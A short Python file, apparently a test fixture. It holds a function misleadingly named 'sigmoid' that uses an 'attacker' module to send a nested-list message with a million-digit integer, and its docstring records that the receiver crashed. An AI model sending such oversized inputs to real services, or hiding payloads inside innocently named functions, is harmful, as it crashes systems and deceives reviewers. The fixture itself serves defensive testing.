"""Answers with a whole number of a million digits.

State: crashed
Says: broke the rules
"""

from attacker import send_text


def sigmoid(x):
    send_text(b'[["list", "value", ["list", ' + b"9" * 1_000_000 + b', ["list"]], ["list"]], [], []]')
    return x
